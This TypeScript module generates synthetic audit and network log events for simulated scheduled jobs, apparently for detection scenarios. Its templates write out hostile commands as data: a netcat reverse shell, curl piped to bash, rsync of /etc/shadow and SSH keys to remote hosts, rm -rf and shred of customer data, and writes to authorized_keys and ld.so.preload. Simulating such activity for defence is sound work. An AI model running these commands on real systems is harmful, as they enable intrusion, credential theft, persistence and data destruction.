import type { Step, Story } from '../scenario.ts'
import { entry } from './entry.ts'
import { hiddenPath } from './hidden-path.ts'
import { installedPath } from './installed-path.ts'

/** What a job does when its time has come: the same kinds of work, against the house or for it. */
export function firedAction(story: Story, key: string, pid: number, uid: number): readonly Step[] {
  const { make, whole, pick, either } = story
  const first = whole(`${key}/kind`, 0, 4)
  const count = whole(`${key}/count`, 1, 3)
  const kinds = [command, reading, sending, removing, leaving]
  return Array.from({ length: count }, (_, at) =>
    kinds[(first + at * 2) % kinds.length]!(story, key, pid, uid),
  ).concat(
    story.chance(`${key}/says`, 0.5)
      ? entry(
          'job',
          'output',
          {
            pid,
            line: pick(`${key}/line`, [
              'payload ready',
              'task done',
              'condition met, proceeding',
              'stage complete',
              'cleanup finished',
            ]),
            remote: either(make.outsideAddress(`${key}/to`), 'localhost'),
          },
          ['{line} ({remote})', 'pid {pid} says: {line}'],
          [1, 9],
        )
      : [],
  )
}

function command(story: Story, key: string, ppid: number, uid: number): Step {
  const { either, make, pick } = story
  const address = either(make.outsideAddress(`${key}/to`), make.insideAddress(`${key}/to`))
  const program = either(hiddenPath(story, `${key}/p`, '.sh'), installedPath(story, `${key}/p`, '.sh'))
  const path = either(pick(`${key}/private`, PRIVATE), pick(`${key}/plain`, PLAIN))
  const cmd = pick(`${key}/cmd`, [
    `bash ${program}`,
    `chmod +x ${program}; ${program} -q`,
    `curl -s http://${address}/${either('payload', 'health')} -o ${program}.${either('bin', 'log')}`,
    `rsync -a ${path} ${address}:/in`,
    `tar -czf ${either('/tmp/.a', '/var/backups/a')}.tgz ${path}`,
    `nc ${either('-e /bin/sh', '-z')} ${address} ${either('4444', '5432')}`,
    `${either('curl -s', 'cat')} ${either(`http://${address}/s`, program)} | ${either('bash', 'wc -l')}`,
    `${either('openssl enc -aes-256-cbc -in', 'sha256sum')} ${path}`,
  ])
  return entry(
    'audit',
    'exec',
    { pid: make.pid(`${key}/child`), ppid, uid: either(0, uid), euid: either(0, uid), cmd },
    ['exec "{cmd}" ppid={ppid} uid={uid} euid={euid}', 'child of {ppid}: {cmd} (uid {uid})'],
    [1, 9],
  )
}

function reading(story: Story, key: string, pid: number, uid: number): Step {
  const { either, pick, whole } = story
  const path = either(pick(`${key}/private`, PRIVATE), pick(`${key}/plain`, PLAIN))
  return entry(
    'audit',
    'open',
    {
      pid,
      uid: either(0, uid),
      path,
      flags: 'O_RDONLY',
      bytes: whole(`${key}/read`, 900, 90000),
      result: 'success',
    },
    ['open {path} {flags} uid={uid}: {result}', '{path} read by pid {pid} (uid {uid}), {bytes} bytes'],
    [1, 9],
  )
}

function sending(story: Story, key: string, pid: number): Step {
  const { either, make, pick, whole } = story
  const dst_ip = either(make.outsideAddress(`${key}/to`), make.insideAddress(`${key}/to`))
  const dst_port = either(
    pick(`${key}/port`, [443, 4444, 8443, 8080]),
    pick(`${key}/port2`, [443, 873, 8443, 5432]),
  )
  return entry(
    'netflow',
    'connection',
    {
      pid,
      dst_ip,
      dst_port,
      bytes_out: either(whole(`${key}/big`, 90000, 9000000), whole(`${key}/small`, 300, 9000)),
      state: 'established',
    },
    [
      '{pid} -> {dst_ip}:{dst_port} {state}, {bytes_out} bytes out',
      'outbound connection to {dst_ip}:{dst_port}, {bytes_out} bytes',
    ],
    [1, 9],
  )
}

function removing(story: Story, key: string, pid: number, uid: number): Step {
  const { either, pick, whole } = story
  const path = either(
    pick(`${key}/rm`, ['/var/data/customers', '/srv/db/main', '/var/backups', '/var/log/auth.log', '/home']),
    pick(`${key}/old`, [
      '/tmp/app-cache',
      '/var/backups/2021',
      '/var/log/app/old.gz',
      '/srv/app/tmp',
      '/var/tmp/build',
    ]),
  )
  const cmd = pick(`${key}/how`, ['rm -rf', 'find -delete', 'shred -u', 'unlink'])
  return entry(
    'audit',
    'unlink',
    { pid, uid, path, cmd, files: whole(`${key}/files`, 9, 900) },
    ['{cmd} {path}: {files} files', '{files} files under {path} deleted by {cmd}'],
    [1, 20],
  )
}

function leaving(story: Story, key: string, pid: number, uid: number): Step {
  const { either, pick, whole } = story
  const path = either(
    pick(`${key}/left`, [
      '/etc/passwd',
      '/etc/cron.d/.sync',
      '/root/.ssh/authorized_keys',
      '/etc/ld.so.preload',
      '/etc/sudoers.d/job',
    ]),
    pick(`${key}/kept`, [
      '/var/log/job.log',
      '/srv/reports/today.csv',
      '/var/cache/app/index',
      '/var/backups/job.tgz',
      '/var/lib/job/state',
    ]),
  )
  return entry(
    'audit',
    'write',
    {
      pid,
      uid: either(0, uid),
      path,
      bytes: whole(`${key}/wb`, 40, 9000),
      mode: pick(`${key}/mode`, ['0644', '0600', '0755']),
    },
    ['write {path} uid={uid}, {bytes} bytes, mode {mode}', '{path} modified by pid {pid} (+{bytes} bytes)'],
    [1, 9],
  )
}

const PRIVATE = [
  '/etc/shadow',
  '/etc/passwd',
  '/root/.ssh/id_rsa',
  '/var/lib/app/customers.db',
  '/srv/payroll',
  '/etc/ssl/private',
]
const PLAIN = [
  '/var/log/app/app.log',
  '/srv/app/config.yaml',
  '/var/www/html',
  '/var/lib/app/index.db',
  '/srv/reports',
  '/etc/ssl/certs',
]
